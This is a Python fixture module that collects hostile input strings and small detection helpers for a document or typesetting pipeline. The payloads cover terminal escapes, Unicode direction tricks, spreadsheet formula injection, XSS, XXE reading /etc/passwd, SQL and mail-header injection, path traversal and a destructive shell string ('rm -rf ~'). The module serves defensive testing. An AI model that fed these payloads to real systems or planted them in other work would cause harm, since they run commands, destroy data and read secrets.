"""Texts that somebody gets into a book to harm whoever reads, prints or sends it, and what they must not do.

Each is data wherever it stands: never a command to a terminal, a spreadsheet, a typesetter, a mail server, a
program that is started or the file system.
"""

from unicodedata import category

HOSTILE: dict[str, str] = {
    # terminals
    "escape, colour": "\x1b[31mrot\x1b[0m",
    "escape, screen cleared": "\x1b[2J\x1b[H",
    "escape, title": "\x1b]0;Titel\x07",
    "escape, clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "escape, link": "\x1b]8;;https://boese.example\x1b\\hier\x1b]8;;\x1b\\",
    "escape, question": "\x1b[6n\x1b[c\x1bP+q544e\x1b\\",
    "escape, picture": "\x1b_Ga=T,f=100;AAAA\x1b\\",
    "escape alone": "\x1b",
    "C1, colour": "\x9b31mrot\x9b0m",
    "C1, title": "\x9d0;Titel\x9c",
    "bell and backspace": "Hallo\x07\x08\x08\x08\x08\x08Geheim",
    "NUL": "vor\x00nach",
    "delete": "vor\x7fnach",
    "carriage return": "harmlos\rBoese",
    "form feed and vertical tab": "a\x0cb\x0bc",
    "next line": "a\x85b",
    "shift out": "\x0e\x0f\x1b(0qqq",
    "tab": "\tA\tB",
    "line break": "eine Zeile\nnoch eine",
    "line and paragraph separator": "a\u2028b\u2029c",
    # reading
    "direction overridden": "Rechnung\u202efdp.exe",
    "direction isolated": "\u2066\u2067abc\u2069\u2068",
    "marks of direction": "\u200eab\u200fcd\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "soft hyphen": "Kün\u00addi\u00adgung",
    "combining marks": "Z" + "\u0351\u0363\u036a\u033f" * 40,
    "a mark alone": "\u0301\u0308",
    "tags": "a\U000e0041\U000e0042b",
    "variation selectors": "❤\ufe0f☎\ufe0e",
    "looks alike": "Мusterhоst",
    "wide and emoji": "漢字👩‍👩‍👧‍👦🇩🇪",
    "private use and no character": "\ue000\uf8ff\ufdd0\uffff",
    "right to left": "שלום עולם مرحبا",
    "a surrogate": "vor\ud800nach",
    "two surrogates": "\udcff\udcfe",
    # spreadsheets
    "formula": "=1+1",
    "formula, command": "=cmd|' /C calc'!A0",
    "formula, link": '=HYPERLINK("https://boese.example?x="&A1;"hier")',
    "formula, plus": "+49 231 555",
    "formula, minus": "-1+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1;1)",
    "formula, tab before": "\t=1+1",
    "formula, return before": "\r=1+1",
    "formula, next cell": "x;=1+1",
    "formula, cell closed": 'x";=1+1;"',
    "formula, next column": 'x","=1+1","',
    "formula, next line": "Notiz\n=1+1\n- Punkt\n@x",
    "formula, wide sign": "＝1＋1",
    "apostrophe": "'=1+1",
    "apostrophes": "'''",
    "cells": 'a,b;c\t"d"|e | f',
    # markup and code
    "markup": "[bold red]fett[/] [link=https://boese.example]x[/link]",
    "markup, open": "[/] [@click=app.quit]x[/] [[ ]] \\[",
    "Typst": '#sys.inputs #read("/etc/passwd") $x$ *a* _b_ `c` <d> @e',
    "Typst, end of text": '"] #panic() #let x = "',
    "Typst, comment": "// weg /* auch weg */ \\ ~ -- --- ...",
    "template": "{titel} {{doppelt}} {0.__class__} %s %(x)s ${x} $(x)",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "XML": ']]><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "SVG": '"/></text></svg><script xlink:href="data:x"/>',
    "JSON": '", "x": {"y": [1]}, "z": "\\u001b\\',
    "SQL": "Robert'); DROP TABLE event;-- ?",
    "calendar": "X\\nEND:VEVENT\\, ATTENDEE:mailto:a@b.example;",
    # mail
    "mail, header": "Betreff\r\nBcc: alle@boese.example\r\n\r\nText",
    "mail, header without return": "Betreff\nBcc: alle@boese.example",
    "mail, encoded": "=?utf-8?B?DQpCY2M6IGFAYi5leGFtcGxl?=",
    "mail, end of message": ".\nQUIT\n..\n",
    "mail, parties": '"Boss" <boss@boese.example>, x@y.example',
    # file names and programs
    "path": "../../../../tmp/boese",
    "path from the root": "/etc/cron.d/boese",
    "path, Windows": "..\\..\\C:\\boese.exe:strom",
    "path, dots": "..",
    "path, device": "CON.pdf",
    "path, hidden": ".bashrc",
    "path, home": "~root/.ssh/authorized_keys",
    "flag": "--help",
    "flag, output": "-o/tmp/boese",
    "flag, end of flags": "--",
    "shell": "$(touch /tmp/boese) `id` ; rm -rf ~ | cat & \"'\\",
    "shell, history": "!! !$ ^a^b",
    "pattern": "* ? [a-z] {a,b} **/",
    # sizes and shapes
    "long word": "W" * 200,
    "long line": "wort " * 40,
    "blanks inside": "a" + " " * 50 + "b",
    "blank that is none": "\u00a0a\u2007b\u3000c\u00a0",
    "one sign": "x",
    "number": "1e309",
    "nothing known": "None",
}
"""The values by what they try; a line of a contract takes up to 200 signs."""

_MAY_STAND = frozenset("\n\u00a0\u202f")
"""Line breaks, and blanks that keep words together."""

_FORMULA = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def commands_in(text: str) -> str:
    """Return every sign of a text that a terminal could obey, or that shows something else than there is."""
    return "".join(sorted({sign for sign in text if not sign.isprintable() and sign not in _MAY_STAND}))


def escapes_in(text: str) -> str:
    """Return every control character of a text but the line ends and tabs that files have."""
    return "".join(sorted({sign for sign in text if category(sign) in ("Cc", "Cs") and sign not in "\r\n\t"}))


def begins_formula(cell: str) -> bool:
    """Return whether a spreadsheet would reckon with a cell instead of showing it."""
    return cell.lstrip()[:1] in _FORMULA or cell[:1] in _FORMULA if cell else False
